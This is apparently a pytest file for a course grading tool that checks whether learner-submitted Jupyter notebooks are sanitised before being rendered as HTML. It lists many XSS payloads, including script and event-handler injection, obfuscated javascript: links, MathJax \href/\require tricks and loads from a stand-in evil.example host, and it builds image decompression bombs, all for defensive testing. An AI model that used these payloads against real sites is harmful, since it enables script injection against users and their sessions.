"""A judged notebook can be opened: what a learner wrote or printed is text in the page."""

from __future__ import annotations

import base64
import io
import time

import pytest
from bs4 import BeautifulSoup
from nbconvert import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from course_lib.grading import clean
from course_lib.grading import page as shown


def png(width: int, height: int) -> str:
    """The beginning of a picture."""
    size = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    head = b"\x89PNG\r\n\x1a\n" + (13).to_bytes(4, "big") + b"IHDR"
    return base64.b64encode(head + size + bytes(20)).decode()


PNG = png(3, 5)
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]:\njavascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "`code`<script>alert(1)</script>`code`",
    "```\n</pre><script>alert(1)</script>\n```",
    "\\<script>alert(1)\\</script>",
    "<!-- --><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<form action=http://evil.example><input name=grade></form>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\\\href{javascript:alert(1)}{x}$",
    "$\\\\\\href{java\nscript:alert(1)}{x}$",
    "$\\\\\\\\require{action}\\\\def\\x{1}$",
    "[x][y]\n\n[y]: java\tscript:alert(1)",
    "$\\ href{javascript:alert(1)}{x} \\style{color:red}{x}$",
    "$$\\require{action}\\def\\x{\\href}\\x{javascript:alert(1)}{x}$$",
    "$\\class{x}{\\cssId{save}{y}}$",
    "$a<b>c\\text{<img src=x onerror=alert(1)>}$",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)


def page(notebook: NotebookNode) -> BeautifulSoup:
    body, _ = HTMLExporter(template_name="classic").from_notebook_node(notebook)
    return BeautifulSoup(body, "html.parser").find("body")


def harmful(body: BeautifulSoup) -> list[str]:
    """Whatever in a page runs, loads or leads anywhere."""
    found = [str(tag)[:80] for tag in body.find_all(["iframe", "svg", "form", "style", "object"])]
    for tag in body.find_all(True):
        for name, value in tag.attrs.items():
            text = "".join(str(value).split()).lower()
            loads = name != "href" and "evil.example" in text
            if name.startswith("on") or "javascript:" in text or loads:
                found.append(str(tag)[:80])
    found += [str(tag)[:80] for tag in body.find_all("script") if "alert" in str(tag)]
    found += [str(tag)[:80] for tag in body.find_all("img") if "data:image/svg" in str(tag)]
    for tag in body.find_all(["pre", "code"]):  # MathJax passes them over
        tag.clear()
    text = body.get_text()
    found += [c for c in ("\\href", "\\require", "\\style", "\\class", "\\def") if c in text]
    return found


def cleaned(*cells: NotebookNode, release: tuple[NotebookNode, ...] = ()) -> NotebookNode:
    return clean.notebook(new_notebook(cells=list(cells)), new_notebook(cells=list(release)))


@pytest.mark.adversarial
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_learner_wrote_runs_nothing(attack):
    plain = [
        new_output("stream", text=attack),
        new_output("execute_result", data={"text/plain": attack}),
        new_output("error", ename=attack, evalue=attack, traceback=[attack, f"\x1b[31m{attack}"]),
    ]
    rich = [
        new_output("display_data", data={kind: attack})
        for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png")
    ]
    made = cleaned(new_markdown_cell(attack), new_code_cell(attack, outputs=plain + rich))
    assert harmful(page(made)) == []


@pytest.mark.adversarial
def test_the_page_of_an_unclean_notebook_would_be_harmful():
    unclean = new_notebook(cells=[new_markdown_cell(attack) for attack in ATTACKS])
    assert len(harmful(page(unclean))) > 8


@pytest.mark.adversarial
def test_only_text_and_pictures_stay_of_outputs():
    kinds = {
        "text/html": "<b>x</b>",
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
        "image/svg+xml": SVG,
        "image/png": base64.b64encode(SVG.encode()).decode(),
        "image/jpeg": "not base64!",
        "text/plain": "x",
    }
    metadata = {"image/png": {"width": '1" onload="alert(1)'}}
    given = [
        new_output("display_data", data=kinds, metadata=metadata),
        new_output("display_data", data={"image/png": PNG}, metadata=metadata),
        new_output("display_data", data={"text/html": "<b>x</b>"}),
        NotebookNode(output_type="update_display_data", data={}),
        NotebookNode(output_type="stream", name="evil", text=["a\x07", "b"]),
    ]
    kept, _ = clean.outputs(given)
    assert kept[0].data == {"text/plain": "x"} and kept[0].metadata == {}
    assert kept[1].data == {"image/png": PNG}
    assert "not shown: text/html" in kept[2].text and "not shown" in kept[3].text
    assert (kept[4].name, kept[4].text) == ("stdout", "ab")


@pytest.mark.slow
@pytest.mark.adversarial
def test_outputs_are_bounded():
    text = "x" * 10_000_000
    many = [new_output("stream", text=text) for _ in range(500)]
    kept, left = clean.outputs(many)
    assert len(str(kept)) < 2 * clean.WHOLE and left == 0
    assert kept[-1].text.startswith("[more output")


@pytest.mark.adversarial
def test_a_small_file_with_a_huge_picture_is_none():
    image = pytest.importorskip("PIL.Image")
    for kind, form in (("image/png", "PNG"), ("image/jpeg", "JPEG")):
        stream = io.BytesIO()
        image.new("RGB", (31, 17)).save(stream, form)
        assert clean.pixels(stream.getvalue()) == 31 * 17
        data = base64.b64encode(stream.getvalue()).decode()
        (kept,), _ = clean.outputs([new_output("display_data", data={kind: data})])
        assert kept.data == {kind: data}
        assert shown.image(kind, data, "x") is not None
        bomb = stream.getvalue()
        if form == "PNG":
            bomb = base64.b64decode(png(2**31 - 1, 2**31 - 1))
        else:
            bomb = bomb.replace((17).to_bytes(2, "big") + (31).to_bytes(2, "big"), b"\xff" * 4)
        assert clean.pixels(bomb) > clean.PIXELS
        for given in (bomb, bomb[:14]):  # or it does not say how large it is
            data = base64.b64encode(given).decode()
            (kept,), _ = clean.outputs([new_output("display_data", data={kind: data})])
            assert "not shown" in kept.text and shown.image(kind, data, "x") is None


@pytest.mark.adversarial
@pytest.mark.parametrize("piece", ["\\", "\\a", "]", "] ", "j a", "&a", "data ", "<", "java\n"])
def test_to_clean_a_long_text_takes_a_moment(piece):
    started = time.process_time()
    for text in (piece * 200_000, piece + " " * 400_000, "x" + piece * 100_000 + ":"):
        clean.markdown(text)
    assert time.process_time() - started < 10


def test_honest_markdown_and_the_releases_cells_stay():
    ours = new_markdown_cell("See [the page](https://example.org) <b>now</b>", id="task")
    text = "**Yes**: $a_b \\frac{1}{2} \\begin{matrix}1&2\\end{matrix}$\n\n* `x[0](1)`\n\n1. two"
    made = cleaned(ours, new_markdown_cell(text), release=(ours,))
    assert made.cells[0].source == ours.source
    html = page(made)
    assert html.find("strong").text == "Yes" and html.find("code").text.startswith("x[0]")
    assert "\\frac{1}{2}" in html.text and "1&2" in html.text
    changed = new_markdown_cell(ours.source + "<script>alert(1)</script>", id="task")
    assert "&lt;script" in cleaned(changed, release=(ours,)).cells[0].source


def test_nothing_given_is_changed():
    given = new_notebook(cells=[new_markdown_cell("<b>x</b>", attachments={"x": {}})])
    made = clean.notebook(given, new_notebook())
    assert given.cells[0].source == "<b>x</b>" and "attachments" in given.cells[0]
    assert "attachments" not in made.cells[0]
